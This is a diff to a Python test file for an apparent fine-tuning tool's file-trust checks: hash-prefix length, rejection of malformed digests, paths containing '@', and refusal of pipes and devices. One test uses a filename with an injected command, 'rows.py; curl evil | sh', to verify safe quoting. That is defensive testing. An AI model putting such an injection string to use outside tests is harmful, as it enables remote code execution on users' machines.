@@ -20,6 +20,7 @@ from llmft.runs.resuming import changed_environment
 from llmft.runs.run_folder import plugins_of
 from llmft.system import trust
 from llmft.testing import DatasetContract, RewardContract
+from tests.odd_files import in_time, place
 
 ROWS = """
 from pathlib import Path
@@ -165,12 +166,12 @@ def test_nothing_runs_without_trust_and_what_to_type_is_said(file):
 
 def test_trust_of_one_content_ends_where_it_changes(file):
     digest = hashlib.sha256(file.read_bytes()).hexdigest()
-    trust.grant([f"file:{file}@{digest[:10]}"])
+    trust.grant([f"file:{file}@{digest[:16]}"])
     assert preflight(job(file), None) == []
     file.write_text(ROWS + "\n")
     found = preflight(job(file), None)
     assert {f.code for f in found} == {"E607"}
-    assert f"{digest[:10]} is trusted" in found[0].what
+    assert f"{digest[:16]} is trusted" in found[0].what
 
 
 def test_trust_of_another_file_is_none(file):
@@ -273,3 +274,37 @@ def test_the_hash_is_in_the_lock_and_the_fingerprint(trusted):
     locks = [lock | rest | {"packages": {}} for lock in (before, after)]
     assert fault(lambda: changed_environment(*locks)).code == "E405"
     assert changed_environment(*locks, accept_plugins=True)[0].startswith("code of the file")
+
+
+@pytest.mark.parametrize("digits", ["", "a", "0" * 15, "0" * 65, "z" * 64, " " * 16])
+def test_a_content_that_is_not_told_is_not_trusted(file, digits):
+    """An empty variable, or a digit, after the @ would trust every content."""
+    told = fault(lambda: trust.grant([f"file:{file}@{digits}"]))
+    assert (told.code, "after the @" in told.fix) == ("E090", True)
+    assert not trust.is_trusted(str(file))
+
+
+def test_a_folder_with_an_at_holds_a_file_that_is_trusted(tmp_path):
+    place = tmp_path / "a@b"
+    place.mkdir()
+    (place / "mine.py").write_text(ROWS)
+    digest = hashlib.sha256(ROWS.encode()).hexdigest()
+    for words in (f"file:{place}/mine.py", f"file:{place}/mine.py@{digest[:16]}"):
+        trust.revoke_all()
+        trust.grant([words])
+        assert trust.is_trusted(str(place / "mine.py"))
+
+
+def test_what_is_to_be_typed_is_one_word(tmp_path, monkeypatch):
+    """The file's name is the recipe's, which may be a stranger's."""
+    monkeypatch.chdir(tmp_path)
+    name = "rows.py; curl evil | sh"
+    (tmp_path / name).write_text(ROWS)
+    assert trust.refusal(name).faults[0].fix.endswith(f"--trust 'file:{name}'")
+
+
+@pytest.mark.parametrize("kind", ["pipe", "device"])
+def test_code_is_a_plain_file(tmp_path, kind):
+    place(kind, tmp_path / "mine.py", tmp_path)
+    told = in_time(lambda: fault(lambda: trust.digest_of(str(tmp_path / "mine.py"))))
+    assert (told.code, f"it is a {kind}" in told.what) == ("E107", True)
